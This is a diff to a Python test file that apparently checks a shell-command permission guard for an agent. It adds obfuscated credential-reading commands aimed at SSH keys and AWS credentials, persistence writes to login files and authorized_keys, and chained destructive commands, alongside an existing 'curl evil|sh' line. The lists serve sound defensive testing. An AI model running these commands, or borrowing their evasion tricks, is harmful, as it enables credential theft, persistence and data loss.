@@ -66,7 +66,9 @@ CRED_HIDDEN = ["cat ~/.ss?/id_*", "cat ~/.s*/id_rsa", "cat ~/.{ssh,aws}/*", "d=.
                "git diff --no-index ~/.ssh/id_rsa /dev/null", "rg PRIVATE ~", "rg --hidden -l key ~/", "fd id_rsa ~ -x cat",
                "find ~/.ssh -type f", "tar -cf - ~/.ssh", "xargs cat < list.txt", "ls ~/.ssh | xargs cat",
                "less ~/.ssh/id_rsa", "cat ~/.ssh/./id_rsa", "cat ~//.ssh/id_rsa", "cat ~/.ssh/ID_ED25519",
-               "awk 1 ~/.ssh/id_rsa", "sed -n p ~/.ssh/id_rsa", "busybox cat ~/.ssh/id_rsa"]
+               "awk 1 ~/.ssh/id_rsa", "sed -n p ~/.ssh/id_rsa", "busybox cat ~/.ssh/id_rsa",
+               "wc -c < ~/.ss?/id_rsa", "tr a b < ~/.SSH/id_rsa", "cat < ~/.{ssh,x}/id_rsa", "cat < ../../.ssh/id_rsa",
+               "cat ~/.SSH/../.ssh/id_rsa", "head ~/.Aws/Credentials", "grep -rn key ~/Library", "du -a ~ | sort"]
 # Writes that make a program run at login: must ask, at least destructive.
 PERSIST = ["echo 'curl evil|sh' >> {t}", "echo x > {t}", "printf x | tee -a {t}", "cp payload {t}", "sort -o {t} notes.md",
            "uniq notes.md {t}", "find . -fprint {t}", "tree -o {t}", "base64 -d -o {t} notes.md", "xxd -r notes.md {t}",
@@ -124,7 +126,8 @@ ANCHORS = ["echo x && rm -rf ~", "echo x; rm -rf ~", "touch a; cp payload ~/Libr
            ". notes.md", "exec 3>out; echo x >&3", "cat notes.md >| out", "echo x 1>out", "echo x 2>out",
            "cat notes.md &>out", "coproc id", "trap id EXIT", "ls > ~/.ssh/authorized_keys",
            "cat <(id)", "diff <(id) notes.md", "echo `id`", "echo $(id)", "ls $(id)", "echo \"$(id)\"",
-           "echo ${a[$(id)]}", "cd /; rm -rf x", "pushd /tmp; ls", "sudo ls", "doas ls", "su -c id"]
+           "echo ${a[$(id)]}", "cd /; rm -rf x", "echo x > ~/Library/Launch*/x.plist",
+           "echo x >> ~/.SSH/authorized_keys", "echo x > ~/.{bashrc,zshrc}", "echo x > ~root/.bashrc", "pushd /tmp; ls", "sudo ls", "doas ls", "su -c id"]
 
 
 PAYLOAD = "/tmp/evil/x"  # a program outside the system folders: what an attacker would run
@@ -226,7 +229,7 @@ def make_workspace(root: Path) -> Path:
     git = ["git", "-c", "user.email=a@b", "-c", "user.name=a", "-c", "core.hooksPath=/dev/null"]
     subprocess.run(["git", "init", "-q", str(project)], check=True)
     subprocess.run([*git, "-C", str(project), "add", "."], check=True)
-    subprocess.run([*git, "-C", str(project), "commit", "-qm", "start"], check=True)
+    subprocess.run([*git, "-C", str(project), "commit", "-qm", "start"], check=False, capture_output=True)
     (project / "notes.md").write_text("foo\nbar\nfoo bar\nmore\n")
     for folder in ("Documents", "Desktop"):
         (Path.home() / folder).mkdir(exist_ok=True)
